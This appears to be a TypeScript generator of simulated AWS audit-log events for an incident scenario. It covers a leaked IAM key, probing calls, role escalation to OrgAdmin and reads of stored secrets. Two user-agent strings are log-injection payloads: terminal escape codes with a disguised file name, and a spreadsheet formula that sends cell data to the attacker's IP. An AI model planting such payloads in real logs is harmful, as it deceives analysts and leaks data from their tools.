// The incident: alice's leaked key is used from 198.51.100.23.

import {
  adminKey,
  at,
  attacker,
  boto,
  cli,
  deployKey,
  deploySession,
  eu,
  us,
  userResource,
} from './attacker.ts';
import type { Random } from './random.ts';
import type { Call } from './record.ts';
import { account, assumeRoleParts, iamUser } from './record.ts';
import { aliceKey, alicePrincipal } from './setting.ts';
import { takeover } from './takeover.ts';

export function attackCalls(random: Random): readonly Call[] {
  return [...probing(random), ...climb(random), ...takeover()];
}

const probes = [
  ['iam', 'ListRoles', 'us-east-1', 'AccessDenied'],
  ['iam', 'ListAttachedUserPolicies', 'us-east-1', 'AccessDenied'],
  ['iam', 'GetAccountAuthorizationDetails', 'us-east-1', 'AccessDenied'],
  ['iam', 'CreateAccessKey', 'us-east-1', 'AccessDenied'],
  ['s3', 'ListBuckets', 'us-east-1', 'AccessDenied'],
  ['s3', 'GetBucketAcl', 'eu-west-1', 'AccessDenied'],
  ['ec2', 'DescribeInstances', 'eu-west-1', 'Client.UnauthorizedOperation'],
  ['ec2', 'DescribeInstances', 'ap-northeast-1', 'Client.UnauthorizedOperation'],
  ['ec2', 'DescribeSecurityGroups', 'eu-west-1', 'Client.UnauthorizedOperation'],
  ['ec2', 'GetPasswordData', 'ap-northeast-1', 'Client.UnauthorizedOperation'],
  ['secretsmanager', 'ListSecrets', 'eu-west-1', 'AccessDeniedException'],
  ['secretsmanager', 'ListSecrets', 'ap-northeast-1', 'AccessDeniedException'],
  ['kms', 'ListKeys', 'eu-west-1', 'AccessDeniedException'],
  ['organizations', 'DescribeOrganization', 'us-east-1', 'AccessDeniedException'],
  ['organizations', 'ListAccounts', 'us-east-1', 'AccessDeniedException'],
] as const;

function probing(random: Random): readonly Call[] {
  const alice = iamUser('alice', aliceKey, alicePrincipal);
  const by = { by: alice, ip: attacker, agent: cli } as const;
  const denied = Array.from({ length: 64 }, (_each, n): Call => {
    const [service, name, region, code] = probes[n % probes.length] ?? probes[0];
    const message = `User: arn:aws:iam::${account}:user/alice is not authorized to perform: ${service}:${name} because no identity-based policy allows the ${service}:${name} action`;
    // An attacker who knows that logs are read leaves text for their readers.
    const agent =
      n === 20
        ? 'aws-cli/2.15.0 \u001b[2J\u001b[1;1Hno events found \u202egnp.exe'
        : n === 33
          ? '=HYPERLINK("http://198.51.100.23/?"&A1,"details")'
          : n % 4 === 0
            ? boto
            : cli;
    return {
      ...by,
      agent,
      timeS: at('13:24:10') + n * 9 + random.below(5),
      region,
      service,
      name,
      readOnly: name !== 'CreateAccessKey',
      error: [code, message],
      ...(name === 'CreateAccessKey'
        ? { request: { userName: 'alice' }, resources: [['AWS::IAM::User', 'alice']] as const }
        : {}),
    };
  });
  return [
    {
      ...by,
      timeS: at('13:22:51'),
      region: 'us-east-1',
      service: 'sts',
      name: 'GetCallerIdentity',
      readOnly: true,
    },
    { ...by, timeS: at('13:23:30'), region: 'us-east-1', service: 'iam', name: 'ListUsers', readOnly: true },
    { ...by, timeS: at('13:23:41'), region: 'us-east-1', service: 'iam', name: 'GetUser', readOnly: true },
    ...denied,
  ];
}

/** From alice to the role Deploy, and from there to OrgAdmin. */
function climb(random: Random): readonly Call[] {
  const alice = iamUser('alice', aliceKey, alicePrincipal);
  const refused = (who: string, action: string): readonly [string, string] => [
    'AccessDenied',
    `User: ${who} is not authorized to perform: ${action} because no identity-based policy allows the ${action} action`,
  ];
  const deployArn = `arn:aws:sts::${account}:assumed-role/Deploy/build-42`;
  return [
    {
      ...us,
      by: alice,
      timeS: at('13:57:02'),
      service: 'sts',
      name: 'AssumeRole',
      readOnly: true,
      error: refused(`arn:aws:iam::${account}:user/alice`, 'sts:AssumeRole'),
      request: { roleArn: `arn:aws:iam::${account}:role/OrgAdmin`, roleSessionName: 'build-42' },
    },
    {
      ...us,
      by: alice,
      timeS: at('13:58:40'),
      service: 'sts',
      name: 'AssumeRole',
      readOnly: true,
      ...assumeRoleParts('Deploy', 'AROADEPLOYEXAMPLE0042', 'build-42', deployKey, at('14:58:40'), 'alice'),
    },
    ...['ListBuckets', 'GetBucketAcl', 'GetBucketPolicy', 'GetBucketLocation'].map((name, n): Call => ({
      ...eu,
      by: deploySession,
      timeS: at('13:59:05') + n,
      service: 's3',
      name,
      readOnly: true,
    })),
    ...Array.from({ length: 14 }, (_each, n): Call => ({
      ...eu,
      by: deploySession,
      timeS: at('13:59:20') + n * 3 + random.below(2),
      service: 'secretsmanager',
      name: 'GetSecretValue',
      readOnly: true,
      request: { secretId: `web/${['database', 'payments', 'mail', 'sessions'][n % 4] ?? 'mail'}` },
      resources: [
        [
          'AWS::SecretsManager::Secret',
          `web/${['database', 'payments', 'mail', 'sessions'][n % 4] ?? 'mail'}`,
        ],
      ],
      ...(n % 4 === 1
        ? {
            error: [
              'AccessDeniedException',
              `User: ${deployArn} is not authorized to perform: secretsmanager:GetSecretValue`,
            ] as const,
          }
        : {}),
    })),
    {
      ...us,
      by: deploySession,
      timeS: at('14:00:31'),
      service: 'iam',
      name: 'AttachUserPolicy',
      readOnly: false,
      error: refused(deployArn, 'iam:AttachUserPolicy'),
      request: { userName: 'alice', policyArn: 'arn:aws:iam::aws:policy/AdministratorAccess' },
      resources: [userResource('alice')],
    },
    {
      ...us,
      by: deploySession,
      timeS: at('14:01:02'),
      service: 'sts',
      name: 'AssumeRole',
      readOnly: true,
      ...assumeRoleParts('OrgAdmin', 'AROAORGADMINEXAMPLE42', 'build-42', adminKey, at('15:01:02'), 'alice'),
    },
  ];
}
